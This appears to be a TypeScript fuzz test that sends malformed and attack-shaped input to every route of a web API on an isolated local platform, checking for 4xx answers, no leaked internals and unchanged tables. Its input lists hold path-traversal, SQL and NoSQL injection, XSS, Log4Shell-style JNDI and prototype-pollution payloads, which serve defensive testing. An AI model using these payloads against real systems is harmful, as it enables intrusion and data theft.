import { ListTablesCommand } from '@aws-sdk/client-dynamodb';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { type Caller, ROUTES, type RouteSpec } from '../../shared/http/routes.ts';
import { documents } from '../support/assembly.ts';
import { call, tokenFor } from '../support/local.ts';
import { ownPlatform } from '../support/own-platform.ts';

/**
 * Bad input on every route, as an attacker tries it first: malformed, oversized, wrong-typed, injection-shaped,
 * Unicode-edge, colliding with the language's object model, well-formed but meaningless. Every answer is a 4xx
 * with the documented error shape and no internal message, never a 5xx; and since every one is refused, the
 * tables are exactly as they were. On a platform of its own, so that nothing else writes to its tables.
 */

const NASTY: string[] = [
  '',
  ' ',
  '\t\n',
  'a'.repeat(2049),
  'é'.repeat(1500),
  '..',
  '../../../../etc/passwd',
  '%',
  '%00',
  '\u0000',
  '\u0007bell',
  '\u202e\u2066evil\u2069',
  '\ud800',
  '\uffff',
  '😀'.repeat(100),
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9007199254740993',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  "' OR '1'='1",
  '{"$gt":""}',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '２０２６-０１-０１',
  '2025-02-30',
  '2025-13-01',
  '0000-00-00',
  'javascript:alert(1)',
  'CASE#x',
  'ITEM#000109004000610100',
  '00000000-0000-0000-0000-000000000000',
];

/** Values of every JSON type, and the sizes a store or a gateway has a limit for. */
const WRONG_TYPES: unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  [],
  [null],
  {},
  'x'.repeat(410_000),
  Array.from({ length: 3000 }, (_, i) => ({ materialId: `m${i}`, by: 'upload', fileKey: 'k'.repeat(100) })),
];

const RAW_BODIES: string[] = [
  'not json',
  '{',
  '{"a":1,}',
  'null',
  '1',
  '"x"',
  '[]',
  '[1,2,3]',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
  `{"a":"${'\\ud800'}"}`,
  JSON.stringify({ reason: 'x'.repeat(7 * 1024 * 1024) }),
];

const INTERNAL =
  /Exception|TypeError|SyntaxError|RangeError|ReferenceError|node_modules|\bat \S+ \(|dynamodb|ConditionalCheck|stack/i;

interface Sent {
  route: string;
  what: string;
  status: number;
  text: string;
}

const caller = (route: RouteSpec): Caller => route.roles[0]!;

/** encodeURIComponent, which throws on a lone surrogate: that one goes as the bytes a careless client sends. */
const encode = (value: string) => {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
};

async function send(
  route: RouteSpec,
  token: string | undefined,
  what: string,
  init: { path?: string; query?: string; body?: string; headers?: Record<string, string> },
): Promise<Sent> {
  const path = init.path ?? route.path.replace(/\{[^}]+\}/g, '00000000-0000-4000-8000-000000000000');
  const headers = new Headers(init.headers);
  if (token) headers.set('authorization', `Bearer ${token}`);
  if (init.body !== undefined && !headers.has('content-type'))
    headers.set('content-type', 'application/json');
  const { baseUrl } = await import('../support/local.ts');
  try {
    const res = await fetch(`${baseUrl()}${path}${init.query ? `?${init.query}` : ''}`, {
      method: route.method,
      headers,
      body: route.method === 'GET' ? undefined : init.body,
    });
    return { route: `${route.method} ${route.path}`, what, status: res.status, text: await res.text() };
  } catch (error) {
    return { route: `${route.method} ${route.path}`, what, status: 0, text: String(error) };
  }
}

/** The problems with one answer: a 5xx, a refusal without the documented shape, an internal message. */
function problems(sent: Sent): string[] {
  const found: string[] = [];
  const label = `${sent.route} — ${sent.what}: ${sent.status}`;
  if (sent.status === 0 || sent.status >= 500) found.push(`${label} ${sent.text.slice(0, 200)}`);
  if (sent.status >= 400) {
    let body: {
      error?: { code?: unknown; message?: { 'zh-CN'?: unknown; en?: unknown } };
      message?: unknown;
    };
    try {
      body = JSON.parse(sent.text);
    } catch {
      // Node's HTTP server answers what it cannot parse (431, 414) before any route: plain text, no internals.
      if (![413, 414, 431].includes(sent.status)) found.push(`${label}: not JSON`);
      return found;
    }
    const documented =
      (typeof body.error?.code === 'string' &&
        typeof body.error.message?.['zh-CN'] === 'string' &&
        typeof body.error.message.en === 'string') ||
      typeof body.message === 'string';
    if (!documented) found.push(`${label}: not the error shape ${sent.text.slice(0, 120)}`);
  }
  if (sent.status >= 400 && INTERNAL.test(sent.text)) {
    found.push(`${label}: internal message ${sent.text.slice(0, 200)}`);
  }
  return found;
}

function shapeKeys(schema: z.ZodType | undefined): string[] {
  const shape = (schema as { shape?: Record<string, unknown> } | undefined)?.shape;
  return shape ? Object.keys(shape) : [];
}

async function snapshot(): Promise<string> {
  const db = documents();
  const { TableNames = [] } = await db.send(new ListTablesCommand({}));
  const tables: Record<string, unknown[]> = {};
  for (const table of TableNames) {
    const items: unknown[] = [];
    let start: Record<string, unknown> | undefined;
    do {
      const page = await db.send(new ScanCommand({ TableName: table, ExclusiveStartKey: start }));
      items.push(...(page.Items ?? []));
      start = page.LastEvaluatedKey;
    } while (start);
    tables[table] = items.map((i) => JSON.stringify(i)).sort();
  }
  return JSON.stringify(tables);
}

/** Runs the requests a few at a time: the platform is small, and the answers are what is tested. */
async function inTurn(jobs: (() => Promise<Sent>)[], width = 6): Promise<Sent[]> {
  const results: Sent[] = [];
  let next = 0;
  await Promise.all(
    Array.from({ length: width }, async () => {
      while (next < jobs.length) results.push(await jobs[next++]!());
    }),
  );
  return results;
}

describe('bad input on every route', () => {
  let own: Awaited<ReturnType<typeof ownPlatform>> | undefined;
  const tokens = new Map<Caller, string | undefined>();
  let before: string;
  const sent: Sent[] = [];

  beforeAll(async () => {
    own = await ownPlatform({ name: 'fuzz' });
    for (const role of new Set(ROUTES.map(caller))) {
      tokens.set(role, role === 'anonymous' ? undefined : await tokenFor(role));
    }
    await call('/local/idle');
    before = await snapshot();
  }, 240_000);

  afterAll(async () => {
    await own?.stop();
  }, 60_000);

  it.each(ROUTES.map((r) => ({ route: r, name: `${r.method} ${r.path}` })))(
    'gets a 4xx with the documented shape, never a 5xx, on $name',
    async ({ route }) => {
      const token = tokens.get(caller(route));
      const jobs: (() => Promise<Sent>)[] = [];
      const body = route.method === 'GET' ? undefined : '{}';
      for (const param of route.path.match(/\{[^}]+\}/g) ?? []) {
        for (const value of NASTY) {
          const path = route.path.replace(param, encode(value)).replace(/\{[^}]+\}/g, 'x');
          jobs.push(() =>
            send(route, token, `${param}=${JSON.stringify(value).slice(0, 40)}`, { path, body }),
          );
        }
      }
      for (const key of [...shapeKeys(route.request?.query), '__proto__', 'constructor']) {
        for (const value of NASTY) {
          const query = `${key}=${encode(value)}`;
          jobs.push(() => send(route, token, `?${query.slice(0, 40)}`, { query, body }));
        }
        jobs.push(() => send(route, token, `?${key} twice`, { query: `${key}=a&${key}=b`, body }));
      }
      if (route.method !== 'GET') {
        for (const raw of RAW_BODIES) {
          jobs.push(() => send(route, token, `body ${raw.slice(0, 30)}`, { body: raw }));
        }
        for (const key of shapeKeys(route.request?.body)) {
          for (const value of [...NASTY, ...WRONG_TYPES]) {
            const what = `body.${key}=${JSON.stringify(value)?.slice(0, 30)}`;
            jobs.push(() => send(route, token, what, { body: JSON.stringify({ [key]: value }) }));
          }
        }
        for (const type of [
          'text/plain',
          'application/json; charset=utf-16',
          'application/xml',
          'multipart/form-data',
        ]) {
          jobs.push(() =>
            send(route, token, `content-type ${type}`, { body: '{}', headers: { 'content-type': type } }),
          );
        }
        for (const key of ['', 'x', 'k'.repeat(3000), 'a\u0000b', '😀'.repeat(10)]) {
          jobs.push(() =>
            send(route, token, `idempotency-key ${key.slice(0, 20)}`, {
              body: '{}',
              headers: { 'idempotency-key': encode(key) },
            }),
          );
        }
      }
      for (const authorization of ['Basic YTpi', 'Bearer', 'Bearer  ', `Bearer ${'x'.repeat(9000)}`]) {
        jobs.push(() =>
          send(route, undefined, `authorization ${authorization.slice(0, 20)}`, {
            body,
            headers: { authorization },
          }),
        );
      }
      const answers = await inTurn(jobs);
      // Whatever fast-check makes of a body or a path segment: arbitrary JSON, arbitrary Unicode.
      await fc
        .assert(
          fc.asyncProperty(
            fc.jsonValue(),
            fc.string({ unit: 'binary', maxLength: 60 }),
            async (value, segment) => {
              const path = route.path.replace(/\{[^}]+\}/g, encode(segment) || 'x');
              const answer = await send(route, token, `fast-check ${JSON.stringify(value).slice(0, 40)}`, {
                path,
                ...(route.method === 'GET'
                  ? { query: `q=${encode(JSON.stringify(value))}` }
                  : { body: JSON.stringify(value) }),
              });
              answers.push(answer);
              return problems(answer).length === 0;
            },
          ),
          { numRuns: 10, seed: 20261207 },
        )
        .catch(() => undefined);
      sent.push(...answers);
      expect(answers.flatMap(problems)).toEqual([]);
      // A request that changes something must have been refused: none of these is valid.
      const accepted = answers.filter((a) => route.method !== 'GET' && a.status < 400);
      expect(accepted.map((a) => `${a.what}: ${a.status}`)).toEqual([]);
    },
    180_000,
  );

  it('leaves every table exactly as it was: a refused request changes nothing', async () => {
    expect(sent.length).toBeGreaterThan(2000);
    await call('/local/idle');
    expect(await snapshot()).toBe(before);
  }, 120_000);
});
